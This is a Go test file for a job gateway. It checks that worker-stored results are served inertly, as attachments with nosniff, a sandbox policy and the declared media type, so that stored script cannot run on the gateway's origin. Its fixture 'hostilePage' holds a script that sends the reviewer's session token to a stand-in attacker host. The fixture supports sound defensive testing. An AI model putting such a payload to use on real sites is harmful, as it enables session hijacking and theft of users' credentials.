package gateway

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"strconv"
	"testing"
	"time"

	"github.com/jobgate/jobgate/internal/job"
	"github.com/jobgate/jobgate/internal/natsjs"
	"github.com/jobgate/jobgate/test/jobtest"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/stretchr/testify/require"
)

// hostilePage is what a hostile worker stores as a result: a page that
// reads the reviewer's token from the gateway's origin.
var hostilePage = []byte(`<!doctype html><script>fetch("//evil.example/?t="+sessionStorage.getItem("jobgate.token"))</script>`)

// succeedHostile stores content as a job's result with the headers a
// hostile worker chose (a page to show inline), the way the object store
// lets its writer, and marks the job succeeded with the type the worker
// claimed.
func (b *testBundle) succeedHostile(t *testing.T, tenant, requester, id string, content []byte) {
	t.Helper()
	_, err := b.res.Results.Put(context.Background(), jetstream.ObjectMeta{
		Name: id, Headers: map[string][]string{
			"Content-Type":           {"text/html; charset=utf-8"},
			"Content-Disposition":    {"inline"},
			"X-Content-Type-Options": {"sniff"},
		},
	}, bytes.NewReader(content))
	require.NoError(t, err)
	b.advance(t, tenant, requester, id, func(r *job.Record) error {
		if err := r.Transition(job.StateRunning, time.Now()); err != nil {
			return err
		}
		r.Attempt = 1
		r.Output = &job.Output{Object: id, ContentType: "text/html", Size: int64(len(content)), SHA256: "abc"}
		return r.Transition(job.StateSucceeded, time.Now())
	})
}

// resultLink follows GET /v1/jobs/{id}/result to the signed link.
func (b *testBundle) resultLink(t *testing.T, tok, id string) string {
	t.Helper()
	r := b.do(t, http.MethodGet, "/v1/jobs/"+id+"/result", tok, "")
	require.Equal(t, http.StatusSeeOther, r.status, "body: %s", r.body)
	return r.header.Get("Location")
}

// requireInert checks the four headers a result is always served with.
func requireInert(t *testing.T, r response, id, contentType, ext string) {
	t.Helper()
	require.Equal(t, http.StatusOK, r.status, "body: %s", r.body)
	require.Equal(t, contentType, r.header.Get("Content-Type"), "the type's declared media type, not the worker's")
	require.Equal(t, `attachment; filename="`+id+ext+`"`, r.header.Get("Content-Disposition"))
	require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
	require.Equal(t, "sandbox", r.header.Get("Content-Security-Policy"))
	require.Equal(t, "private, no-store", r.header.Get("Cache-Control"))
}

// A result is served as its type declared it, as an attachment that is
// never sniffed and runs nothing, whatever the worker stored alongside the
// bytes (issue 22: a text/html inline result ran script on the gateway's
// origin).
func TestResultServedInertWhateverTheWorkerStored(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	tok := b.token(t, "4", "reviewer-47", false)
	id := b.submit(t, tok, "k", permit).job(t).ID
	b.succeedHostile(t, "4", "reviewer-47", id, hostilePage)
	link := b.resultLink(t, tok, id)

	file := b.do(t, http.MethodGet, link, "", "")
	requireInert(t, file, id, "application/pdf", ".pdf") // permit_report declares application/pdf
	require.Equal(t, hostilePage, file.body, "the bytes are served as stored")

	head := b.do(t, http.MethodHead, link, "", "")
	requireInert(t, head, id, "application/pdf", ".pdf")
	require.Equal(t, strconv.Itoa(len(hostilePage)), head.header.Get("Content-Length"))
	require.Empty(t, head.body)
}

// The media type and the file name follow the declaration of the job's
// type, and a result whose type's declaration is gone is bytes to save.
func TestResultTypeFollowsTheDeclaration(t *testing.T) {
	t.Parallel()
	g, b := setup(t)
	csv := &job.TypeDecl{
		Name: "csv_export", Schema: json.RawMessage(`{"type":"object","additionalProperties":false}`),
		TimeoutSeconds: 60, Attempts: 1, MaxResultBytes: 1 << 20, ContentType: "text/csv; charset=utf-8",
	}
	jobtest.DeclareTypes(t, b.res, csv)
	require.Eventually(t, func() bool { _, ok := g.types.decl("csv_export"); return ok }, 10*time.Second, 10*time.Millisecond)

	tok := b.token(t, "4", "reviewer-47", false)
	sub := b.submit(t, tok, "csv", `{"type":"csv_export","params":{}}`)
	require.Equal(t, http.StatusAccepted, sub.status, "body: %s", sub.body)
	id := sub.job(t).ID
	b.succeedHostile(t, "4", "reviewer-47", id, hostilePage)

	file := b.do(t, http.MethodGet, b.resultLink(t, tok, id), "", "")
	requireInert(t, file, id, "text/csv; charset=utf-8", ".csv")
	require.Equal(t, hostilePage, file.body)

	// The declaration is deleted (as an operator deletes a type): the
	// result is still served, as application/octet-stream.
	link := b.resultLink(t, tok, id)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	kv, err := b.res.JS.KeyValue(ctx, natsjs.BucketTypes)
	require.NoError(t, err)
	require.NoError(t, kv.Delete(ctx, "csv_export"))
	require.Eventually(t, func() bool { _, ok := g.types.decl("csv_export"); return !ok }, 10*time.Second, 10*time.Millisecond)

	file = b.do(t, http.MethodGet, link, "", "")
	requireInert(t, file, id, "application/octet-stream", ".bin")
	require.Equal(t, hostilePage, file.body)
}
